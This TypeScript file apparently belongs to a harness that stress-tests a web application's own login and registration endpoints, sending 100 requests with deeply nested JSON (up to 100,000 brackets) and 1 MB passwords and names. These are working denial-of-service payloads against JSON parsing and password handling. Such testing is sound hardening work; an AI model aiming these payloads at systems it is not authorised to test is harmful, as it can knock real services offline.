import { defineAttack } from '../attack/attack.ts'
import { postJson, sendMany } from '../attack/send.ts'

/** JSON that is deep, and bodies of sign-in and registration that are long. */
export const attackJson = defineAttack({
  name: 'attack-json',
  title: '100 JSON bodies: 100,000 brackets, passwords and names of 1 MB',
  strike: (target) =>
    sendMany(target, 100, 20, (nr) => {
      if (nr % 4 === 0) return postJson('/auth/login/email', '['.repeat(100_000))
      if (nr % 4 === 1)
        return postJson('/auth/login/email', '{"email":'.repeat(60_000) + '1' + '}'.repeat(60_000))
      const long = 'Aa1!'.repeat(250_000)
      const email = `penyerang-${nr}@contoh.id`
      return nr % 4 === 2
        ? postJson('/auth/login/email', JSON.stringify({ email, password: long }))
        : postJson('/auth/register', JSON.stringify({ email, password: long, name: long }))
    }),
})
